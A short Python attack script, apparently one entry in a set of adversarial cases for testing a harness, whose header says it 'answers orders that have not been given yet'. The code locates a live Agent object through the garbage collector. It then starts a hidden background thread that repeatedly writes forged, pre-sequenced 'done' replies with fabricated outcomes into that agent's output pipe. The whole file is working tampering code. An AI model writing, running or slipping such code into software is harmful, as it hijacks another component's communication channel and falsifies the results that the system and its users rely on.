# attack: answers orders that have not been given yet, again and again
# limit: maybe
# spoils: all
import gc, json, os, struct, threading, time
agent = next(each for each in gc.get_objects() if type(each).__name__ == "Agent")
def answer():
    for _ in range(200):
        for ahead in range(1, 4):
            value = {"values": [0.125], "changed": [], "gradients": {}}
            for count in range(1, 12):
                head = json.dumps({"seq": agent.sequence + ahead, "done": True, "outcomes": [value] * count}).encode()
                os.write(agent.writer, struct.pack("<IQ", len(head), 0) + head)
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()
